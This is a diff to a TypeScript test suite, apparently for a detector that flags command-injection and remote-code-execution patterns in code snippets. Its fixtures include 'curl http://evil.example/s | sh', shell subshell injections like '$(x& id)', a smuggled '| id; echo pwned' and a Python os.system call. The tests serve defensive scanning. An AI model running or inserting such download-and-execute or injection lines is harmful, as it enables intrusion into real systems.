@@ -3566,6 +3566,9 @@ t.test("forty-first round, from the fifty-fifth and fifty-sixth parts: C++'s and
   const around = (line: string) => `void f(int a) {\n  g(a);\n  h(a);\n}\n${line}\n`
   for (const line of ['while (x& id) {', 'if (x& id) then', '(x& id)', 'a=$(x& id)', 'cat <(x& id)', 'x& id', 'do (x& id)', 'f(x) && curl http://evil.example/s | sh']) t.ok(json({ code: around(line) }).includes('rce'), line)
   t.ok(json({ code: 'fn main() {\n    let a = 1;\n    while (x& id) {}\n}\n' }).includes('rce'), 'a subshell after `while`')
+  // (after the fifty-seventh part's measurement) a closure's parameters, in a method's call
+  t.same(json({ code: '    pub fn sort_by_path(&mut self) {\n        self.with_dirs_mut(|dirs| {\n            dirs.sort_unstable_by(|dir1: &Dir, dir2: &Dir| {\n                dir1.path.cmp(&dir2.path)\n            })\n        });\n    }\n' }), [], "Rust's `|dir1: &Dir, dir2: &Dir|`")
+  t.ok(json({ code: around('127.0.0.1 "x.y("T& id;') }).includes('rce'), 'a quoted method call opens no list: the line runs')
 })
 
 t.test("forty-first round, its review's payloads: each relaxation's bypass, read again", async (t) => {
@@ -3582,3 +3585,11 @@ t.test("forty-first round, its review's payloads: each relaxation's bypass, read
     t.ok(q(`# Aliases\n\nlist: ls \\\n| id; echo pwned #|\n| alias | command |\n${delimiter}\n| ll | ls -l |\n`, 'body').includes('rce'), delimiter)
   }
 })
+
+t.test("forty-first round, from the fifty-seventh and fifty-eighth parts: Python's `else:` is no shell's word", async (t) => {
+  const qtile = "        muted = self.check_mute_string in check_mute\n        volgroups = re_vol.search(mixer_out)\n        if volgroups:\n            return int(volgroups.groups()[0])\n        else:\n            return -1\n\n    def cmd_increase_vol(self):\n        if self.volume_up_command is not None:\n            subprocess.call(self.volume_up_command, shell=True)\n        else:\n            subprocess.call(self.create_amixer_command('-q', 'sset', self.channel, '2%+'))\n"
+  t.same(json({ snippet: qtile }), [], "qtile's volume widget")
+  t.ok(json({ snippet: 'if true; then\n  x=1\nelse\n  curl http://evil.example/s | sh\nfi\n' }).includes('rce'), "a shell's `else` still makes a program, and its download piped to a shell is read")
+  t.ok(json({ snippet: "x = 1\nelse:\n    __import__('os').system('id')\n" }).includes('rce'), "Python's sink with its import is read as before")
+})
+
